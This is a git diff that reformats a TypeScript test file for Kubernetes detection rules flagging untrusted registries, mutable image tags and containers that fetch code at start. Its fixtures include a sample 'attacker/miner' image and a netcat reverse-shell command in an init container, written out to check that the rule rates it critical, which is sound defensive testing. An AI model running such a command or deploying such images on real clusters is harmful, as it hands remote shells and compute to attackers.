@@ -9,7 +9,10 @@ const rule = (id: string): Rule => ruleById(untrustedImageRules, id);
 
 describe('image.registry-not-allowed', () => {
   const r = rule('image.registry-not-allowed');
-  const allowlist: Settings = { ...DEFAULT_SETTINGS, images: { allowedRegistries: ['registry.example.com', '*.dkr.ecr.*.amazonaws.com'], flagMutableTags: true } };
+  const allowlist: Settings = {
+    ...DEFAULT_SETTINGS,
+    images: { allowedRegistries: ['registry.example.com', '*.dkr.ecr.*.amazonaws.com'], flagMutableTags: true },
+  };
 
   it('reports images from outside the allowlist, higher when the spec is privileged', () => {
     const [hit] = fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')), allowlist);
@@ -43,7 +46,15 @@ describe('image.mutable-tag', () => {
   const r = rule('image.mutable-tag');
 
   it('notes latest and untagged images on new workloads as low', () => {
-    const [hit] = fire(r, workloadWrite('deployments', { containers: [{ name: 'a', image: 'nginx' }, { name: 'b', image: 'redis:latest' }] }));
+    const [hit] = fire(
+      r,
+      workloadWrite('deployments', {
+        containers: [
+          { name: 'a', image: 'nginx' },
+          { name: 'b', image: 'redis:latest' },
+        ],
+      }),
+    );
     expect(hit.severity).toBe('low');
     expect(hit.summary).toBe('alice@example.com created Deployment default/web with mutable image tags nginx, redis:latest');
   });
@@ -66,7 +77,10 @@ describe('image.fetches-code-at-start', () => {
     const [hit] = fire(r, workloadWrite('statefulsets', fetcher));
     expect(hit.severity).toBe('high');
     expect(hit.summary).toBe('alice@example.com created StatefulSet default/web: container app downloads and runs code');
-    const reverse = { initContainers: [{ name: 'init', image: 'alpine:3', args: ['sh', '-c', 'nc 203.0.113.9 9001 -e /bin/sh'] }], containers: [{ name: 'app' }] };
+    const reverse = {
+      initContainers: [{ name: 'init', image: 'alpine:3', args: ['sh', '-c', 'nc 203.0.113.9 9001 -e /bin/sh'] }],
+      containers: [{ name: 'app' }],
+    };
     expect(severity(r, workloadWrite('pods', reverse))).toBe('critical');
   });
 
